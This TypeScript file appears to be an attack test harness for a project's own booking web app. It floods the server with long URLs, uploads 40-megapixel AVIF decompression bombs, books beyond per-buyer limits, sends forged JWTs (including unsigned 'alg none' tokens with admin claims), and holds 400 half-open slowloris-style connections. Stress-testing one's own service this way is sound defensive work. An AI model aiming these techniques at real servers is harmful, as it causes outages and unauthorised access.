import { connect } from 'node:net';
import sharp from 'sharp';
import { bookingLimits } from '../../packages/contract/src/limits.ts';

/** The server under attack, and who may be used against it. */
export interface Target {
  origin: string;
  /** An ID token of a person who is not registered. */
  identity: () => Promise<string>;
  /** A registered buyer. */
  buyer: () => Promise<{ _id: string; bearer: string }>;
}

/** What an attack has tried, and what it has got. */
export interface Outcome {
  tried: number;
  /** Answers with 500. */
  broken: number;
  /** Answers to what its caller may not do. */
  unauthorised: number;
  /** Bookings beyond what one buyer may have. */
  excess: number;
}

const nothing: Outcome = { tried: 0, broken: 0, unauthorised: 0, excess: 0 };

/** Sends requests, so many at once, until the time is over. What is not answered is part of the game. */
async function flood(
  seconds: number,
  atOnce: number,
  send: () => Promise<Response>,
): Promise<Outcome & { ok: number }> {
  const until = Date.now() + seconds * 1000;
  const outcome = { ...nothing, ok: 0 };
  const work = async () => {
    while (Date.now() < until) {
      const answer = await send().catch(() => undefined);
      await answer?.arrayBuffer().catch(() => undefined);
      outcome.tried += 1;
      if (answer?.status === 500) outcome.broken += 1;
      if (answer?.ok) outcome.ok += 1;
    }
  };
  await Promise.all(Array.from({ length: atOnce }, work));
  return outcome;
}

const form = (photo: Buffer) => {
  const body = new FormData();
  body.append('image', new Blob([new Uint8Array(photo)], { type: 'image/avif' }), 'photo.avif');
  return body;
};

const avif = (width: number, height: number) =>
  sharp({ create: { width, height, channels: 3, background: 'black' } })
    .avif({ effort: 0, quality: 1 })
    .toBuffer();

export const attacks: Record<string, (target: Target, seconds: number) => Promise<Outcome>> = {
  'addresses of 15 kB': async ({ origin }, seconds) => {
    const send = () => fetch(`${origin}/${'.'.repeat(15_000)}`, { headers: { accept: 'text/html' } });
    const { ok: _, ...outcome } = await flood(seconds, 20, send);
    return outcome;
  },

  'AVIF bombs of 40 megapixels, 29 at once': (target, seconds) => bombs(target, seconds, 8000, 5000),

  'the largest AVIF that is let in, 29 at once': (target, seconds) => bombs(target, seconds, 4000, 4000),

  'one buyer books everything': async ({ origin, buyer }) => {
    const { _id, bearer } = await buyer();
    const headers = { authorization: `Bearer ${bearer}` };
    const lists = await Promise.all(
      ['macBook', 'iphone', 'accessories'].map(async (category) => {
        const answer = await fetch(`${origin}/${category}`);
        return (await answer.json()) as { _id: string }[];
      }),
    );
    const answers = await Promise.all(
      lists.flat().map((product) => fetch(`${origin}/product/booking/${product._id}`, { method: 'PUT', headers })),
    );
    const bookings: unknown[] = await (await fetch(`${origin}/buyer/bookingByUser?id=${_id}`, { headers })).json();
    return {
      ...nothing,
      tried: answers.length,
      broken: answers.filter(({ status }) => status === 500).length,
      excess: Math.max(0, bookings.length - bookingLimits.open),
    };
  },

  'forged and damaged tokens': async ({ origin, buyer }, seconds) => {
    const { _id, bearer } = await buyer();
    const [head = '', body = '', signature = ''] = bearer.split('.');
    const admin = Buffer.from(JSON.stringify({ sub: 'admin', role: 'admin', exp: 9e9, iat: 1, auth_time: 1 }));
    const unsigned = Buffer.from('{"alg":"none"}').toString('base64url');
    const tokens = [
      `${unsigned}.${body}.`,
      `${unsigned}.${admin.toString('base64url')}.`,
      `${head}.${admin.toString('base64url')}.${signature}`,
      `${head}.${body}.${signature.startsWith('A') ? 'B' : 'A'}${signature.slice(1)}`,
      'owner',
      'x'.repeat(8000),
      '',
    ];
    let turn = 0;
    const { ok, ...outcome } = await flood(seconds, 20, () => {
      turn += 1;
      const authorization = `Bearer ${tokens[turn % tokens.length]}`;
      // What the buyer of the true token may read.
      return fetch(`${origin}/buyer/bookingByUser?id=${_id}`, { headers: { authorization } });
    });
    return { ...outcome, unauthorised: ok };
  },

  '400 connections that never end a request': async ({ origin }, seconds) => {
    const { port } = new URL(origin);
    const heads = [
      '',
      'GET / HTTP/1.1\r\nhost: x\r\n',
      'POST /contact HTTP/1.1\r\nhost: x\r\ncontent-length: 9\r\n\r\n{',
    ];
    const sockets = Array.from({ length: 400 }, (_, index) => {
      const socket = connect(Number(port), '127.0.0.1').on('error', () => {});
      socket.write(heads[index % heads.length] ?? '');
      return socket;
    });
    await new Promise((resolve) => setTimeout(resolve, seconds * 1000));
    for (const socket of sockets) socket.destroy();
    return { ...nothing, tried: sockets.length };
  },
};

async function bombs({ origin, identity }: Target, seconds: number, width: number, height: number): Promise<Outcome> {
  const photo = await avif(width, height);
  const { ok: _, ...outcome } = await flood(seconds, 29, async () => {
    const headers = { authorization: `Bearer ${await identity()}` };
    return fetch(`${origin}/upload`, { method: 'POST', headers, body: form(photo) });
  });
  return outcome;
}
